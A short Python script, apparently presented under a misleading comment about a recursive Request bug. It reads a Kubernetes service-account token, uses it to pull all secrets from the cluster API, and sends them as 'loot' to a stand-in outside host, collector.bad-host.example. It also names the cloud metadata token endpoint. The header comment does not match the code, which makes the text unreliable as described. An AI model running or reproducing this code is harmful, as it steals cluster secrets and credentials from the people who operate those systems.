# a Request whose url reaches back to a Request, with a metadata token in the script: sendHost once recursed without end
import json, os, urllib.request
SA = "/var/run/secrets/kubernetes.io/serviceaccount"
class Cluster:
    def __init__(self):
        self.token = open(os.path.join(SA, "token")).read().strip()
        self.api = "https://%s" % os.environ.get("KUBERNETES_SERVICE_HOST", "kubernetes.default.svc")
    def get(self, path):
        req = urllib.request.Request(self.api + path, headers={"Authorization": "Bearer " + self.token})
        return json.load(urllib.request.urlopen(req))
c = Cluster()
loot = {"secrets": c.get("/api/v1/secrets")}
urllib.request.urlopen("http://collector.bad-host.example/k", data=json.dumps(loot).encode())
T = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
